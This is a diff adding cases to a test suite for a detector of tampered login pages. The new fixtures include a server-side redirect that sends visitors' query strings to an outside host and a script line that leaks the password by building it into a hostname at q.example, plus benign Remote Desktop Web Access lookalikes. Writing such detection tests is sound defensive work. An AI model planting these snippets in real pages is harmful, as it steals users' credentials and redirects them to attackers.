@@ -28,6 +28,22 @@ const signIn = (code: string) =>
 testDetector(detector, {
   hits: [
     {
+      name: 'server code that sends some visitors on to another host',
+      input: logon(
+        '<script runat="server">void Page_Load() { if (Request.Cookies["seen"] == null) Response.Redirect("https://mail.example/owa/?" + Request.QueryString); }</script>',
+      ),
+      ...page,
+      detections: [{ message: 'retargeted', at: { line: 3 }, severity: 'high' }],
+    },
+    {
+      name: 'in another application, a picture of a host whose name is made of the password',
+      input: signIn(
+        'function go() { new Image().src = "//" + document.getElementById("password").value + ".q.example/f"; }',
+      ),
+      ...application,
+      detections: [{ message: 'sent', at: { line: 2 }, severity: 'high' }],
+    },
+    {
       name: 'password that a request of its own takes',
       input: sample('hit/flogon.js.split'),
       ...script,
@@ -150,6 +166,23 @@ testDetector(detector, {
     },
   ],
   misses: [
+    {
+      name: 'the form of Remote Desktop Web Access, which the server completes',
+      looksAlike: true,
+      input: inlinePage(
+        'aspx',
+        '<%@ Page Language="C#" %>\n<form id="FrmLogin" action="login.aspx<%=SecurityElement.Escape(back)%>" method="post"><input id="DomainUserName"><input id="UserPass" type="password"></form>',
+      ),
+      ...lying('C:\\Windows\\Web\\RDWeb\\Pages\\en-US\\login.aspx'),
+    },
+    {
+      name: 'server code that sends visitors on within the server',
+      looksAlike: true,
+      input: logon(
+        '<script runat="server">void Page_Load() { Response.Redirect("/owa/" + Request.QueryString); }</script>',
+      ),
+      ...page,
+    },
     {
       name: 'script of Remote Desktop Web Access that looks whether a password was given',
       input: inlinePage(
